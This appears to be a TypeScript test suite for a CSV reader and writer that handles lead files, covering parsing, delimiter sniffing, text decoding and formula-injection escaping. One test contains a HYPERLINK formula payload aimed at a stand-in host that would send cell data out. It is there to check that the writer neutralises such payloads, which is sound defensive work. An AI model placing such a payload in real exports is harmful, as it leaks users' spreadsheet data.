/** The reader of lead files: against csv-parse on what RFC 4180 allows, never at a loss on the rest. */
import { parse } from 'csv-parse/sync';
import { stringify } from 'csv-stringify/sync';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import {
  DELIMITERS,
  readRecord,
  skipSeparatorLine,
  sniffDelimiter,
  type Delimiter,
} from '../../src/domain/csv.ts';
import { csvText, plainCell } from '../../src/domain/csv-text.ts';
import { decodeText } from '../../src/domain/file-text.ts';

function readAll(text: string, delimiter: Delimiter = ','): string[][] {
  const rows: string[][] = [];
  for (let at = 0; at < text.length;) {
    const { cells, end } = readRecord(text, at, delimiter);
    expect(end).toBeGreaterThan(at);
    rows.push(cells);
    at = end;
  }
  return rows;
}

const delimiter = fc.constantFrom(...DELIMITERS);
/** Cells of what is dangerous, and of anything. */
const cell = fc.oneof(
  fc.string({
    unit: fc.constantFrom('"', ',', ';', '\n', '\r', ' ', "'", '=', '+', 'a', 'ü', '|'),
  }),
  fc.string({ unit: 'binary' }),
);
const table = fc.array(fc.array(cell, { minLength: 2, maxLength: 5 }), { minLength: 1 });
const anyText = fc.oneof(
  fc.string({ unit: fc.constantFrom('"', '""', ',', ';', '\n', '\r\n', ' ', 'a', '\t', 'sep=') }),
  fc.string({ unit: 'binary' }),
);

describe('readRecord', () => {
  it.each([
    [
      'a,b\nc,d',
      [
        ['a', 'b'],
        ['c', 'd'],
      ],
    ],
    [
      'a,b\r\nc,\r\n',
      [
        ['a', 'b'],
        ['c', ''],
      ],
    ],
    ['a\rb\r', [['a'], ['b']]],
    ['"a ""b"" c","d\r\ne"\n', [['a "b" c', 'd\r\ne']]],
    ['a"b,c""d\n', [['a"b', 'c""d']]],
    ['"a"b,c\n', [['"a"b', 'c']]],
    ['"a" ,"b', [['a', '"b']]],
    [
      '"a,b\n"c",d',
      [
        ['"a', 'b'],
        ['c', 'd'],
      ],
    ],
    ['a, "b, c"\n', [['a', 'b, c']]],
    [
      'a,"b,c\nd,e\n',
      [
        ['a', '"b', 'c'],
        ['d', 'e'],
      ],
    ],
    ['""', [['']]],
    ['"', [['"']]],
    ['\n\na', [[''], [''], ['a']]],
  ])('reads %j', (text, rows) => {
    expect(readAll(text)).toEqual(rows);
  });

  it('reads what csv-stringify writes, as csv-parse does', () => {
    fc.assert(
      fc.property(table, delimiter, fc.constantFrom('\n', '\r\n'), (rows, by, end) => {
        const options = { delimiter: by, record_delimiter: end, quoted: true };
        const text = stringify(rows, options);
        expect(readAll(text, by)).toEqual(rows);
        expect(parse(text, { ...options, relax_column_count: true })).toEqual(rows);
      }),
    );
  });

  it('reads any text to its end and loses none of its letters', () => {
    fc.assert(
      fc.property(anyText, delimiter, (text, by) => {
        const letters = (words: string) => words.replaceAll(/[^\p{L}]/gu, '');
        expect(letters(readAll(text, by).flat().join(''))).toBe(letters(text));
      }),
    );
  });

  it('reads a part of whole records as it reads them within the file', () => {
    fc.assert(
      fc.property(anyText, delimiter, (text, by) => {
        const { cells, end } = readRecord(text, 0, by);
        expect(readRecord(text.slice(0, end), 0, by)).toEqual({ cells, end });
      }),
    );
  });

  it('takes no longer for a file of quotation marks', () => {
    for (const piece of ['"', '"a', ',"', '""","', '"\n']) {
      const text = piece.repeat(1_000_000);
      const start = performance.now();
      readAllQuietly(text);
      expect(performance.now() - start).toBeLessThan(3_000);
    }
  });
});

function readAllQuietly(text: string): void {
  for (let at = 0; at < text.length;) at = readRecord(text, at, ',').end;
}

describe('sniffDelimiter', () => {
  it.each([
    ['a;b;c\n1,2;3;4', ';'],
    ['"a,b,c,d";e\n', ';'],
    ['a\tb,c\td', '\t'],
    ['a', ','],
    ['', ','],
    ['sep=|\na,b', '|'],
    ['"sep=;"\r\na,b', ';'],
  ])('tells %j', (text, by) => {
    expect(sniffDelimiter(text)).toBe(by);
  });

  it("steps over Excel's sep line", () => {
    const text = 'sep=;\r\na;b';
    expect(text.slice(skipSeparatorLine(text))).toBe('a;b');
    expect(skipSeparatorLine('a;b')).toBe(0);
  });
});

describe('csvText', () => {
  it('writes what csv-parse and we read back, blanks at the ends aside', () => {
    fc.assert(
      fc.property(table, (rows) => {
        const text = csvText(rows);
        const options = { record_delimiter: '\r\n', relax_column_count: true };
        for (const read of [readAll(text), parse(text, options) as string[][]]) {
          expect(read.map((row) => row.map(plainCell))).toEqual(
            rows.map((row) => row.map((each) => each.trim())),
          );
        }
      }),
    );
  });

  it('writes no cell that a spreadsheet would calculate, whatever is in it', () => {
    fc.assert(
      fc.property(
        cell,
        fc.constantFrom('=', '+', '-', '@', '\t=', '\r-', ' @', '＝'),
        (text, sign) => {
          const [[written = '']] = parse(csvText([[sign + text, '']])) as [string[]];
          expect(written).toMatch(/^'|^\+[\d ]+$/);
        },
      ),
    );
  });

  it('writes none where a spreadsheet cuts lines at semicolons, tabs, bars or line ends either', () => {
    expect(csvText([['Acme;=HYPERLINK("http://x.test?"&A1)']])).toBe(
      `"Acme;'=HYPERLINK(""http://x.test?""&A1)"\r\n`,
    );
    fc.assert(
      fc.property(
        cell,
        fc.constantFrom(';', '\t', '|', '\n', '\r\n', '; ', ';"', ";'"),
        fc.constantFrom('=', '+', '-', '@', '＝'),
        cell,
        (before, separator, sign, after) => {
          const text = `${before}${separator}${sign}${after}`;
          const [[written = '']] = parse(csvText([[text, '']])) as [string[]];
          const pieces = written.split(/[;\t|\r\n]/).slice(1);
          const formulas = pieces.filter((piece) => /^[\s"]*[=+\-@＝＋－＠]/.test(piece));
          expect(formulas.filter((piece) => !/^\s*\+[\d ]+$/.test(piece))).toEqual([]);
        },
      ),
    );
    expect(csvText([['Office; +49 30 1234567']])).toBe('"Office; +49 30 1234567"\r\n');
  });

  it('leaves numbers and telephone numbers readable', () => {
    expect(csvText([[-5, '+49 30 1234567', '+493012', '-5', true, null]])).toBe(
      "-5,+49 30 1234567,+493012,'-5,true,\r\n",
    );
  });
});

describe('decodeText', () => {
  it.each([
    ['UTF-8', Buffer.from('Zoë')],
    ['UTF-8 with its mark', Buffer.from('\uFEFFZoë')],
    ['UTF-16LE', Buffer.from('\uFEFFZoë', 'utf16le')],
    ['UTF-16BE', Buffer.from('\uFEFFZoë', 'utf16le').swap16()],
    ['Windows-1252', Buffer.from('Zoë', 'latin1')],
  ])('reads %s', (_name, bytes) => {
    expect(decodeText(bytes)).toBe('Zoë');
  });

  it('reads any bytes as text that can be stored', () => {
    fc.assert(
      fc.property(fc.uint8Array(), (bytes) => {
        const text = decodeText(bytes);
        expect(text).not.toContain('\u0000');
        expect(text).not.toMatch(/\p{Surrogate}/u);
      }),
    );
  });
});
